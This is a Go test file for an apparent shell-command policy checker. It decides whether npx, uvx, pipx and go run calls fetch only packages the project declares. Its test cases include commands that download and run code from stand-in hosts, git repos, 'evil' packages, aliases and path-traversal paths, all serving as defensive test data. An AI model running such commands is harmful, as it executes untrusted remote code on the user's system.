package policy

import (
	"strings"
	"testing"

	"github.com/toolguard/toolguard/internal/shellparse"
)

// TestRunnerDeclared: a package runner's effect holds unless the project
// (the call's directory up to the workspace root) declares or installs
// every package it would fetch.
func TestRunnerDeclared(t *testing.T) {
	t.Parallel()
	files := map[string]string{
		"/w/package.json":                     `{"name":"app","description":"uses evil-cli","dependencies":{"prettier":"3","@scope/tool":"1"},"devDependencies":{"typescript":"5"}}`,
		"/w/node_modules/.bin/tsc":            "#!/usr/bin/env node\n",
		"/w/node_modules/vitest/package.json": `{}`,
		"/w/pyproject.toml":                   "[project]\nname = \"app\"\ndescription = \"ruff-like black tool\"\ndependencies = [\"requests>=2\"]\n[dependency-groups]\ndev = [\"ruff==0.5\", 'Black']\n",
		"/w/requirements-dev.txt":             "pytest==8\n# mypy\n",
		"/w/go.mod":                           "module example.com/app\n\ngo 1.22\n\nrequire (\n\tgolang.org/x/tools v0.20.0\n)\nrequire github.com/a/b v1.0.0 // indirect\n",
		"/w/sub/package.json":                 `{"devDependencies":{"eslint":"9"}}`,
	}
	read := func(p string) (string, error) {
		if t, ok := files[p]; ok {
			return t, nil
		}
		return "", shellparse.ErrNoScript
	}
	for _, c := range []struct {
		cmd, cwd string
		want     bool // declared
	}{
		{"npx prettier --check .", "/w", true},
		{"npx prettier@latest --check .", "/w", true}, // declared name, another version
		{"npx -y prettier --write .", "/w", true},
		{"npx tsc --noEmit", "/w", true},   // a bin the project installs
		{"npx tsc@latest", "/w", false},    // the tsc package, not typescript's bin
		{"npx vitest run", "/w", true},     // installed package
		{"npx @scope/tool x", "/w", true},  // scoped
		{"npx eslint .", "/w/sub", true},   // the call's directory
		{"npx prettier .", "/w/sub", true}, // its parent, up to the workspace
		{"npx eslint .", "/w", false},      // a subproject's, not the root's
		{"npm exec -- prettier .", "/w", true},
		{"pnpm dlx prettier .", "/w", true},
		{"yarn dlx typescript", "/w", true},
		{"npx -p typescript tsc", "/w", true},
		{"npx cowsay hi", "/w", false},
		{"npx evil-cli", "/w", false}, // in the description, not a dependency
		{"npx --package=evil prettier", "/w", false},
		{"npx -p evil prettier", "/w", false},
		{"npx -p prettier -p evil x", "/w", false},
		{"npm exec evil", "/w", false},
		{"npx prettier@npm:evil", "/w", false}, // an alias
		{"npx prettier@https://x.example/p.tgz", "/w", false},
		{"npx github:user/repo", "/w", false},
		{"npx user/repo", "/w", false},
		{"npx https://x.example/p.tgz", "/w", false},
		{"npx ./node_modules/.bin/tsc", "/w", true},
		{"npx ./node_modules/.bin/../../evil", "/w", false},
		{"npx ./evil", "/w", false},
		{"npx -c 'prettier .'", "/w", false},
		{"npx prettier", "/elsewhere", false}, // no manifest: unknown asks
		{"uvx ruff check .", "/w", true},
		{"uvx ruff@latest check .", "/w", true},
		{"uvx black .", "/w", true}, // 'Black', normalized
		{"uvx pytest", "/w", true},
		{"uvx mypy", "/w", false},      // a comment
		{"uvx ruff-like", "/w", false}, // a description word
		{"uvx --from evil ruff", "/w", false},
		{"uvx --with evil ruff", "/w", false},
		{"uvx --python 3.12 ruff check", "/w", true},
		{"uvx --index-url https://x.example/simple ruff", "/w", false},
		{"uvx --from git+https://github.com/x/ruff ruff", "/w", false},
		{"uv tool run ruff check", "/w", true},
		{"pipx run cowsay", "/w", false},
		{"pipx run --spec requests x", "/w", true},
		{"go run golang.org/x/tools/cmd/stringer@latest", "/w", true},
		{"go run golang.org/x/toolsevil/cmd@latest", "/w", false},
		{"go run github.com/a/b@v1.2.0", "/w", true},
		{"go run github.com/evil/x@latest", "/w", false},
	} {
		t.Run(c.cmd+"@"+c.cwd, func(t *testing.T) {
			t.Parallel()
			an, err := shellparse.Analyze(c.cmd, shellparse.Options{Cwd: c.cwd})
			if err != nil || len(an.Commands) == 0 {
				t.Fatal(err)
			}
			cmd := &an.Commands[0]
			eco := map[string]string{"npx": "npm", "npm": "npm", "pnpm": "npm", "yarn": "npm", "uvx": "python", "uv": "python", "pipx": "python", "go": "go"}[cmd.Name]
			ev := &evalEnv{workspace: "/w", cwd: c.cwd, readScript: read}
			if got := runnerDeclared(eco, cmd, ev); got != c.want {
				t.Errorf("declared = %v, want %v", got, c.want)
			}
			// and through the programs.toml entries: undeclared is runs-remote-code
			effs := strings.Join(programEffects(cmd, ev), " ")
			if has := strings.Contains(effs, "runs-remote-code"); has == c.want {
				t.Errorf("effects %q (declared %v)", effs, c.want)
			}
		})
	}
}
